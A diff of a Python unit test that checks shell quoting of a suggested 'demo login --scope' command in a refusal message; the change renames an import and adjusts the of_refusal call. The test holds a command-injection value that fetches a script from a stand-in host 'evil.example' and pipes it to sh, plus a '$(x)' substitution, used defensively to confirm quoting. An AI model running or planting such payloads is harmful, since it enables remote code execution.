@@ -187,7 +187,7 @@ def test_a_scope_that_is_a_shell_command_stays_a_word() -> None:
     import shlex
     from types import SimpleNamespace
 
-    from demo.bridge.telling import of_refusal
+    from demo.bridge.refusals import of_refusal
     from demo.evidence import Challenge
 
     nasty = "a;curl${IFS}evil.example|sh"
@@ -195,8 +195,8 @@ def test_a_scope_that_is_a_shell_command_stays_a_word() -> None:
     outcome = SimpleNamespace(
         status=403, challenge=challenge, text="No.", retry_after=None, decision=None, limits=(), error=None
     )
-    answer = SimpleNamespace(outcome=outcome, reply=SimpleNamespace(error_code=None), error=None)
-    text = of_refusal(answer, "demo login", ())  # type: ignore[arg-type]
+    reply = SimpleNamespace(error_code=None, error=None)
+    text = of_refusal(outcome, reply, "demo login", ())  # type: ignore[arg-type]
     command = text.text.rsplit("has to run: ", 1)[1]
     assert shlex.split(command) == ["demo", "login", "--scope", "$(x)", "--scope", nasty]
     assert nasty not in command.replace(shlex.quote(nasty), "")
